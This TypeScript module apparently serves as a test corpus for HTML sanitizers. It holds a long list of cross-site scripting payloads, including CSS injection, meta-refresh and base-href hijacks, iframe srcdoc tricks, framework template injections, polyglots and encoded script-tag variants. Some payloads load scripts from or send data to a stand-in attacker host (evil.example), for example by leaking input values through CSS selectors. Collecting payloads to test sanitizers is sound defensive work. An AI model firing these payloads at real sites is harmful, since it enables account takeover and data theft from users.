import { run } from './run.ts';

const pay = `<img src=x onerror=${run}>`;

/** Styles that run, ran once, load, or cover the page. */
const styles = [
  ...[
    `background:url(javascript:${run})`,
    `background-image:url('java\\script:${run}')`,
    `list-style-image:url(javascript:${run})`,
  ],
  ...[`x:expression(${run})`, `x:expr/**/ession(${run})`, `x:\\65xpression(${run})`, `width:e\\0078pression(${run})`],
  ...[`-moz-binding:url(https://evil.example/x.xml#x)`, `behavior:url(#default#time2)`, `behaviour:url(x.htc)`],
  ...[`-o-link:'javascript:${run}';-o-link-source:current`, `filter:progid:DXImageTransform(${run})`],
  ...[
    `position:fixed;inset:0;z-index:9`,
    `background:url(//evil.example/?${run})`,
    `font-family:'\\22 onerror=${run}'`,
  ],
  ...[`color:red}</style>${'<x onclick='}${run}>`, `--a:url(javascript:${run});background:var(--a)`],
].map((style) => `<p style="${style}" onclick=${run}>e</p>`);

const sheets = [
  `<style>@import 'javascript:${run}';</style>${pay}`,
  `<style>@import url("data:text/css,*{x:expression(${run})}");</style>${pay}`,
  `<style>body{background:url(javascript:${run})}</style>${pay}`,
  `<style>@charset "utf-7";+ADw-script+AD4-${run}</style>${pay}`,
  `<style>input[value^=a]{background:url(//evil.example/a)}</style>${pay}`,
  `<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>${pay}`,
  `<style>*{animation:x}@keyframes x{}</style><x onanimationstart=${run}>e</x>`,
  `<style>:target{color:red}</style><x id=x tabindex=1 onfocus=${run} ontransitionend=${run}>e</x>`,
  `<style type="text/javascript">${run}</style>${pay}`,
  `<link rel=stylesheet href="javascript:${run}">${pay}`,
  `<link rel=import href="data:text/html,<script>${run}</script>">${pay}`,
  `<link rel=prefetch href="//evil.example/" onload=${run}>${pay}`,
];

/** What changes the whole page. */
const ofPage = [
  `<meta http-equiv=refresh content="99;url=javascript:${run}">${pay}`,
  `<meta http-equiv=refresh content="99;url=data:text/html,<script>${run}</script>">${pay}`,
  `<meta http-equiv=Content-Type content="text/html;charset=utf-7">${pay}`,
  `<meta http-equiv=Set-Cookie content="a=<script>${run}</script>">${pay}`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'none'">${pay}`,
  `<meta name=referrer content=unsafe-url>${pay}`,
  `<base href="javascript:/a/"><a href="/${run}">c</a>${pay}`,
  `<base href="//evil.example/"><script src=a.js></script>${pay}`,
  `<base target="<script>${run}</script>">${pay}`,
  `<applet code=x><param name=a value="javascript:${run}"></applet>${pay}`,
  `<object type=text/x-scriptlet data="data:text/html,${run}">${pay}</object>`,
  `<object><param name=src value="javascript:${run}">${pay}</object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" onload=${run}></object>`,
  `<embed type="text/html" src="javascript:${run}">${pay}`,
  `<embed allowscriptaccess=always src="//evil.example/x.swf" onload=${run}>`,
  `<xml id=x><x><c><![CDATA[${pay}]]></c></x></xml><span datasrc=#x datafld=c dataformatas=html onclick=${run}>e</span>`,
  `<t:set attributeName=innerHTML to="&lt;img src=x onerror=${run}&gt;" onclick=${run}>e</t:set>`,
  `<frameset><frame src="javascript:${run}"></frameset>${pay}`,
  `<isindex type=image src=x onerror=${run} action="javascript:${run}">`,
  `<ilayer src="javascript:${run}" onclick=${run}>e</ilayer>`,
  `<dialog open onclose=${run} onclick=${run}>e</dialog>`,
  `<portal src="javascript:${run}" onload=${run} onclick=${run}></portal>`,
  `<fencedframe src="javascript:${run}" onclick=${run}></fencedframe>`,
  `<button popovertarget=x onclick=${run}>e</button><div popover id=x onbeforetoggle=${run}>e</div>`,
  `<button commandfor=y command=show-modal onclick=${run}>e</button><dialog id=y oncommand=${run}>e</dialog>`,
  `<input type=hidden accesskey=x onclick=${run}>`,
  `<label for=z onclick=${run}>e</label><input id=z type=checkbox onchange=${run}>`,
  `<a href="#" style="position:fixed;inset:0" onclick=${run}>cover</a>`,
  `<table><td background="javascript:${run}" onclick=${run}>t</td></table>`,
  `<custom-element is="x-y" onclick=${run}>c</custom-element>`,
  `<x contenteditable onfocus=${run} tabindex=1>x</x>`,
  `<x/onmouseover=${run}>x</x>`,
  `<b/alt="1"onmouseover=${run}>b</b>`,
];

/** Pictures that are given in several, and frames that are written out. */
const sets = [
  `<img srcset="x:y 1x, x:z 2x" onerror=${run}>`,
  `<img src=x srcset=",,,x" sizes="${run}" onerror=${run}>`,
  `<picture><source srcset="javascript:${run}"><img onerror=${run} src=x></picture>`,
  `<picture><source onerror=${run}><img src=x:y onerror=${run}></picture>`,
  `<video poster="javascript:${run}" src=x onerror=${run}></video>`,
  `<iframe srcdoc="&lt;img src&equals;x onerror&equals;parent.alert&lpar;§&rpar;&gt;"></iframe>`,
  `<iframe srcdoc='<body onload="parent.${run}">'></iframe>`,
  `<iframe srcdoc="<svg onload=parent.${run}>"></iframe>`,
  `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&amp;lt;script&amp;gt;parent.${run}&amp;lt;/script&amp;gt;" onload=${run}></iframe>`,
  `<iframe src="javascript:parent.${run}" srcdoc onload=${run}></iframe>`,
];

/** Of frameworks that read the page for their own words. */
const templates = [
  ...[
    "{{constructor.constructor('alert(§)')()}}",
    "{{$on.constructor('alert(§)')()}}",
    "{{_c.constructor('alert(§)')()}}",
  ],
  ...["{{[].pop.constructor('alert(§)')()}}", `\${${run}}`, '#{alert(§)}', '<%= alert(§) %>', '<% alert(§) %>'],
  ...[`[[\${${run}}]]`, '{% raw %}alert(§){% endraw %}', '*{alert(§)}', '@(alert(§))', '{{{alert(§)}}}', '{alert(§)}'],
].map((text) => `<p>${text}</p>${pay}`);

const frameworks = [
  ...[
    'ng-app ng-csp ng-click=$event.view.alert(§)',
    "ng-init=constructor.constructor('alert(§)')()",
    'v-on:click=alert(§)',
  ],
  ...[
    '@click=alert(§)',
    'v-html="\'<img src=x onerror=alert(§)>\'"',
    ':is="\'script\'" src=data:,alert(§)',
    'x-data x-init=alert(§)',
  ],
  ...['x-html=alert(§)', 'hx-on:click=alert(§)', 'hx-get=//evil.example hx-trigger=load', 'data-bind=click:alert(§)'],
  ...[
    '_="on click alert(§)"',
    'data-action=click->x#alert(§)',
    'up-on-opened=alert(§)',
    'u-x=alert(§) data-expression=alert(§)',
  ],
  ...[
    'data-toggle=tooltip data-html=true title="<img src=x onerror=alert(§)>"',
    'data-role=popup id="--><img src=x onerror=alert(§)>"',
  ],
  ...[
    'dangerouslySetInnerHTML="{__html:alert(§)}"',
    'slot=x part=x exportparts=x nonce=x',
    'xmlns:x="urn:x" x:onclick=alert(§)',
  ],
].map((attributes) => `<div ${attributes} onclick=${run}>e</div>`);

/** Which stay what they are in many places at once. */
const polyglots = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(§) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(§)//>\\x3e',
  '">><marquee><img src=x onerror=alert(§)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(§)>',
  "'\">><script>alert(§)</script>'\"'--></style></noscript><img src=x onerror=alert(§)>",
  'javascript://\'/</title></style></textarea></script>--><p" onclick=alert(§)//>*/alert(§)/*',
  'javascript://--></script></title></style>"/</textarea>*/<alert(§)/*\' onclick=alert(§)//>a',
  '`-alert(§)`"-alert(§)-"\'-alert(§)-\'</script><svg/onload=alert(§)>',
  "'-alert(§)-'<svg/onload=';alert(§);'>\\\";alert(§)//",
  '-->"/></sCript><svG x=">" onload=(alert)(§)><!--',
  'x" onerror=alert(§) y=\'\'><img src=x onerror="alert(§)"><x y="',
  "';alert(§)//';alert(§)//\";alert(§)//--></SCRIPT>\">'><SCRIPT>alert(§)</SCRIPT>",
];

/** Scripts as elements: they run when a page is parsed, though not by `innerHTML`. */
const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<script>/*</script>${pay}*/</script>`,
  `<script/x>${run}</script>`,
  `<script defer async crossorigin src="data:,${run}"></script>`,
  `<script for=window event=onload>${run}</script>`,
  `<script language=vbscript>msgbox §</script>`,
  `<script type=importmap>{"imports":{"x":"data:text/javascript,${run}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/§"]}]}</script>`,
  `<script><!--${run}//--></script>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `<script src=//evil.example/x.js?<b>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
];

export const byShape: readonly string[] = [
  ...[...styles, ...sheets, ...ofPage, ...sets, ...templates, ...frameworks, ...polyglots, ...scripts],
];
